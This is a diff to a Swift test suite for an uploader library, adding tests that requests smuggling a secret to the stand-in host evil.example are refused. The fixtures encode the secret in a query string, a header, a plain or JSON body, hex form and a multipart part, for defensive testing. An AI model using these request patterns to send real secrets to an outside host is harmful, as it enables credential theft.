@@ -16,9 +16,15 @@ import UploaderCore
   }
 
   private func prepare(_ head: RequestHead, profiles: SessionProfiles? = nil) throws -> PreparedRequest {
+    try prepare(.inMemory(InMemoryRequestDescription(head)), profiles: profiles)
+  }
+
+  private func prepare(
+    _ description: RequestDescription, profiles: SessionProfiles? = nil
+  ) throws -> PreparedRequest {
     let transport = FakeTransport(statuses: [])
     return try PreparedRequest(
-      .inMemory(InMemoryRequestDescription(head)), profiles: profiles ?? SessionProfiles([Self.api()]),
+      description, profiles: profiles ?? SessionProfiles([Self.api()]),
       secrets: [],
       boundary: "B", now: .zero, origin: transport.origin)
   }
@@ -112,6 +118,37 @@ import UploaderCore
     }
     #expect(refused == secret)
     #expect(origin == Origin(scheme: .https, host: "evil.example"))
+    // What was made of it may have none of its forms.
+    #expect(throws: UploadError.self) {
+      try prepare(RequestHead(.get, .url("https://evil.example/"), secrets: [secret]))
+    }
+  }
+
+  private static func stray(body: String) -> RequestDescription {
+    let head = RequestHead(.post, .url("https://evil.example/"))
+    return .inMemory(InMemoryRequestDescription(head, body: .init(Array(body.utf8), contentType: "text/plain")))
+  }
+
+  /// An echo, or what an earlier request had sent.
+  @Test(
+    arguments: [
+      .inMemory(InMemoryRequestDescription(RequestHead(.get, .url("https://evil.example/?k=\(canary)")))),
+      .inMemory(
+        InMemoryRequestDescription(RequestHead(.get, .url("https://evil.example/"), headers: [.userAgent: canary]))),
+      stray(body: canary), stray(body: "{\"a\": \"x\(canary)y\"}"),
+      stray(body: canary.utf8.map { "\($0 < 16 ? "0" : "")\(String($0, radix: 16))" }.joined()),
+      .multipart(
+        MultipartRequestDescription(
+          RequestHead(.post, .url("https://evil.example/")),
+          parts: [MultipartPart(name: "a", content: .bytes(Array(canary.utf8)))])),
+    ] as [RequestDescription])
+  func `a secret that nobody knew to be in a request is found there`(description: RequestDescription) throws {
+    let error = #expect(throws: UploadError.self) { try prepare(description) }
+    guard case .secretRefused(let refused, _) = error?.fact else {
+      Issue.record("\(String(describing: error))")
+      return
+    }
+    #expect(refused.name == "API_TOKEN")
   }
 
   @Test func `a path without a profile in use is an error`() throws {
